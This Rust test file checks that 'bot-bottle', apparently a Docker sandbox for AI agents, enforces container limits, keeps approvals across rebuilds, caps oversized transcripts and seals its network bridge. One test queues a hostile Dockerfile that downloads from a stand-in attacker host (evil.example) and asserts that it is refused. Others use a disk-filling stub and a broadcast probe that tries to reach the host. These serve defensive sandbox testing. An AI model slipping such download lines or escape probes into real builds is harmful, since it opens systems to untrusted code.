//! Limits and robustness on the real engine: container limits as docker
//! sees them, approvals that survive a capability rebuild and a resume, an
//! agent's Dockerfile refused or built without network, a transcript too
//! large to keep, a network another container holds removed at stop, and
//! an image's ENTRYPOINT that runs only behind a sealed bridge.

mod support;

use bot_bottle::backend::names;
use bot_bottle::proposal::Request;
use bot_bottle::proposal::queue::Queue;
use serde_json::Value;
use support::docker::{Env, docker_ok, leftovers, resume_hint};
use support::needs::require_docker;
use support::proposals::egress_block;

fn inspect(container: &str, format: &str) -> String {
    docker_ok(&["inspect", "--format", format, container])
}

#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn limits_and_the_sealed_network_are_what_docker_runs() {
    let env = Env::new();
    env.write(
        "proj/bot-bottle.json",
        r#"{"bottles": {"small": {"extends": "default",
              "limits": {"memory": "512m", "pids": 300, "cpus": 1}}},
            "agents": {"small": {"provider": "shell", "bottle": "small"}}}"#,
    );
    env.trust();
    let (code, preflight, err) = env.run(&["start", "small", "--dry-run"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        preflight.contains("agent 512m memory, 300 processes, 1 CPU"),
        "{preflight}"
    );
    let slug = env.start_detached(&["small"]);
    let limits = "{{.HostConfig.Memory}} {{.HostConfig.MemorySwap}} {{.HostConfig.PidsLimit}} {{.HostConfig.NanoCpus}}";
    let container = |role: &str| names::container(&slug, role);
    // Under gVisor the engine counts the sandbox's host tasks, several a
    // process.
    let pids = match inspect(&container("agent"), "{{.HostConfig.Runtime}}").as_str() {
        "runsc" => 300 * bot_bottle::GVISOR_TASKS_PER_PROCESS,
        _ => 300,
    };
    assert_eq!(
        inspect(&container("agent"), limits),
        format!("{m} {m} {pids} 1000000000", m = 512u64 << 20)
    );
    assert_eq!(
        inspect(&container("egress"), limits),
        format!("{m} {m} 256 1000000000", m = 256u64 << 20)
    );
    assert_eq!(
        inspect(&container("supervise"), limits),
        format!("{m} {m} 128 500000000", m = 128u64 << 20)
    );
    for role in ["egress", "supervise"] {
        assert_eq!(
            inspect(&container(role), "{{.HostConfig.ReadonlyRootfs}}"),
            "true"
        );
    }
    for role in ["agent", "egress", "supervise"] {
        assert_eq!(
            inspect(
                &container(role),
                "{{.HostConfig.LogConfig.Type}} {{index .HostConfig.LogConfig.Config \"max-size\"}}"
            ),
            "json-file 1m",
            "{role}: what it prints cannot fill the host's disk"
        );
    }
    let network = names::network(&slug, "internal");
    let options: Value = serde_json::from_str(&docker_ok(&[
        "network",
        "inspect",
        "--format",
        "{{json .Options}}",
        &network,
    ]))
    .unwrap();
    assert_eq!(options["com.docker.network.bridge.inhibit_ipv4"], "true");
    // Sealed: strict reverse-path filtering and no IPv6 on the bridge (the
    // engine is on this host, so its settings are in this /proc/sys).
    let bridge = options["com.docker.network.bridge.name"].as_str().unwrap();
    let setting = |path: String| std::fs::read_to_string(&path).unwrap_or(path);
    assert_eq!(
        setting(format!("/proc/sys/net/ipv4/conf/{bridge}/rp_filter")).trim(),
        "1"
    );
    assert_eq!(
        setting(format!("/proc/sys/net/ipv6/conf/{bridge}/disable_ipv6")).trim(),
        "1"
    );
    env.stop_leaving_nothing(&slug);
}

#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn stop_removes_networks_another_container_still_uses() {
    let env = Env::new();
    let slug = env.start_detached(&["shell"]);
    // A bystander on the bottle's outside network: compose alone skips a
    // network in use and reports success, leaving it behind.
    let bystander = support::unique("bystander");
    env.track_container(&bystander);
    let image = inspect(&names::container(&slug, "agent"), "{{.Config.Image}}");
    docker_ok(&[
        "run",
        "--detach",
        "--name",
        &bystander,
        "--network",
        &names::network(&slug, "outside"),
        &image,
        "sleep",
        "600",
    ]);
    let (code, _, err) = env.run(&["stop", &slug]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(leftovers(&slug), (0, 0), "{err}");
    assert_eq!(inspect(&bystander, "{{.State.Running}}"), "true");
    assert_eq!(
        inspect(&bystander, "{{len .NetworkSettings.Networks}}"),
        "0",
        "the bystander is only disconnected"
    );
}

/// A proposal as the supervise sidecar would queue it (or a compromised
/// one: the host checks again).
/// Queues a request as the sidecar would, and lists it as the operator
/// does before approving (`approve` applies only what was listed).
fn queue(env: &Env, slug: &str, request: Request) -> String {
    let dir = env.bottle(slug).supervise_dir();
    let id = Queue::new(&dir)
        .submit(slug, request, "for the test".into())
        .unwrap()
        .id;
    let (code, _, err) = env.run(&["proposals"]);
    assert_eq!(code, 0, "{err}");
    id
}

fn proxy_status(env: &Env, slug: &str, url: &str) -> String {
    env.sh(
        slug,
        &format!("curl -s -m 10 -o /dev/null -w '%{{http_code}}' {url}; true"),
    )
    .1
}

#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn approvals_survive_a_capability_rebuild_and_resume() {
    let env = Env::new();
    let slug = env.start_detached(&["shell"]);
    let state = env.bottle(&slug);

    // No route to these hosts yet: egress refuses them outright.
    assert_eq!(proxy_status(&env, &slug, "http://first.test/"), "403");

    let id = queue(&env, &slug, egress_block("first.test", &["/v1/"]));
    let (code, _, err) = env.run(&["approve", &id]);
    assert_eq!(code, 0, "{err}");
    let credentialed = queue(
        &env,
        &slug,
        Request::EgressBlock {
            host: "second.test".into(),
            path_allowlist: vec![],
            auth: Some(bot_bottle::proposal::AuthRequest {
                scheme: "bearer".into(),
                token_ref: None,
            }),
        },
    );
    let mut approve = env.cmd(&["approve", &credentialed, "--token-env", "BB_TEST_TOKEN"]);
    approve.env("BB_TEST_TOKEN", "robustness-token-value");
    support::succeed(&mut approve);
    // Allowed now: the request goes on, to a name nothing answers (502).
    assert_eq!(proxy_status(&env, &slug, "http://first.test/v1/x"), "502");

    // A hostile Dockerfile queued behind the sidecar's back is refused by
    // the host too, and changes nothing.
    let hostile = queue(
        &env,
        &slug,
        Request::CapabilityBlock {
            dockerfile: "FROM debian:bookworm-slim\nADD https://evil.example/x /x\n".into(),
        },
    );
    let (code, _, err) = env.run(&["approve", &hostile]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("ADD is not allowed"), "{err}");
    assert!(!state.own_dockerfile().exists());

    // A fine one: the bottle goes down, kept, to be rebuilt.
    let current = std::fs::read_to_string(state.agent_dockerfile()).unwrap();
    let rebuilt = queue(
        &env,
        &slug,
        Request::CapabilityBlock {
            dockerfile: format!("{current}RUN touch /tmp/rebuilt-marker\n"),
        },
    );
    let (code, out, err) = env.run(&["approve", &rebuilt]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.trim(), format!("bot-bottle resume {slug}"));
    assert_eq!(leftovers(&slug), (0, 0));
    assert!(
        !state.egress_tokens().exists(),
        "no token is kept while the bottle is down"
    );

    let mut resume = env.cmd(&["resume", &slug, "--yes", "--detach"]);
    resume.env("BB_TEST_TOKEN", "robustness-token-value");
    let out = resume.output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(
        err.contains("an approved capability-block: no network, no build context"),
        "{err}"
    );
    assert!(
        err.contains("first.test /v1/"),
        "the preflight shows the kept routes: {err}"
    );
    assert_eq!(env.sh(&slug, "test -e /tmp/rebuilt-marker").0, 0, "rebuilt");

    // The approvals survived, the credential too (from the variable the
    // operator named, read again at resume).
    assert_eq!(proxy_status(&env, &slug, "http://first.test/v1/x"), "502");
    assert_eq!(proxy_status(&env, &slug, "http://first.test/other"), "403");
    let routes = std::fs::read_to_string(state.egress_routes()).unwrap();
    assert!(routes.contains("second.test"), "{routes}");
    let tokens = std::fs::read_to_string(state.egress_tokens()).unwrap();
    assert!(tokens.contains("robustness-token-value"), "{tokens}");
    env.stop_leaving_nothing(&slug);
}

#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn an_oversized_transcript_is_cut_and_reported() {
    let env = Env::new();
    // A stand-in `claude` that fills its transcript folder past the limit,
    // then fails, so the bottle is kept and its transcript snapshotted.
    env.write(
        "proj/bottle/claude",
        "#!/bin/sh\nmkdir -p \"$HOME/.claude\"\nhead -c 300M /dev/zero > \"$HOME/.claude/huge\"\nexit 1\n",
    );
    let default = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/manifest/defaults/Dockerfile"),
    )
    .unwrap();
    env.trust_agent_image(
        "fake",
        "claude",
        &format!(
            "{default}USER root\nCOPY claude /usr/local/bin/claude\nRUN chmod 755 /usr/local/bin/claude\nUSER agent\n"
        ),
    );
    let (code, _, err) = env.run(&["start", "fake", "--yes"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("is larger than 256 MiB: cut off, not kept"),
        "{err}"
    );
    let slug = resume_hint(&err).unwrap_or_else(|| panic!("no resume hint: {err}"));
    env.track(slug);
    let state = env.bottle(slug);
    assert!(!state.transcript().exists());
    let partial: Vec<_> = std::fs::read_dir(state.root())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.metadata().map(|m| m.len() > 1 << 20).unwrap_or(false))
        .collect();
    assert!(partial.is_empty(), "nothing large is left in the state");
    assert_eq!(leftovers(slug), (0, 0));
}

/// An image's ENTRYPOINT: broadcasts to the port in `$BBTEST_PORT` as the
/// first thing the container does, writes down how many went out, then
/// runs what the bottle runs.
const EARLY_ENTRYPOINT: &str = r#"#!/bin/sh
perl -MSocket -e '
  socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
  setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1) or die "broadcast: $!";
  my $sent = 0;
  for my $i (1..20) {
    $sent++ if send($s, "bbtest-early $i\n", 0, sockaddr_in($ENV{BBTEST_PORT}, INADDR_BROADCAST));
  }
  open(my $f, ">", "/tmp/bbtest-early") or die; print $f "sent $sent\n";
'
exec "$@"
"#;

/// Whatever reached `socket` so far.
fn drain(socket: &std::net::UdpSocket) -> Vec<String> {
    socket.set_nonblocking(true).unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 512];
    loop {
        match socket.recv_from(&mut buf) {
            Ok((n, from)) => got.push(format!("{from}: {}", String::from_utf8_lossy(&buf[..n]))),
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return got,
            Err(e) => panic!("{e}"),
        }
    }
}

#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn an_images_entrypoint_runs_only_behind_a_sealed_bridge() {
    require_docker();
    let all = std::fs::read_to_string("/proc/sys/net/ipv4/conf/all/rp_filter").unwrap_or_default();
    if all.trim() == "2" {
        eprintln!(
            "an_images_entrypoint_runs_only_behind_a_sealed_bridge: skipped: this host's net.ipv4.conf.all.rp_filter is 2 (loose), which lets broadcasts through whatever the bridge says (out of scope, see the README)"
        );
        return;
    }
    let env = Env::new();
    // The host's listener: every address, so a broadcast reaches it.
    let listener = std::net::UdpSocket::bind(("0.0.0.0", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    env.write("home/early/entry.sh", EARLY_ENTRYPOINT);
    env.write(
        "home/early/Dockerfile",
        "FROM debian:bookworm-slim\n\
         RUN useradd --create-home --uid 1000 --shell /bin/bash agent && mkdir -p /workspace && chown agent:agent /workspace\n\
         COPY entry.sh /usr/local/bin/early\n\
         ENTRYPOINT [\"sh\", \"/usr/local/bin/early\"]\n\
         USER agent\n\
         WORKDIR /workspace\n",
    );
    env.write(
        "home/bot-bottle.json",
        &serde_json::json!({
            "bottles": {"early": {"dockerfile": "early/Dockerfile", "env": {"BBTEST_PORT": port.to_string()}}},
            "agents": {"early": {"provider": "shell", "bottle": "early"}}
        })
        .to_string(),
    );
    let slug = env.start_detached(&["early"]);
    // It ran before the bottle was ready, so before `start` returned.
    assert_eq!(env.sh(&slug, "cat /tmp/bbtest-early").1, "sent 20\n");
    let got = drain(&listener);
    assert!(
        got.is_empty(),
        "the image's first broadcasts reached the host: {got:?}"
    );
    env.stop_leaving_nothing(&slug);
}
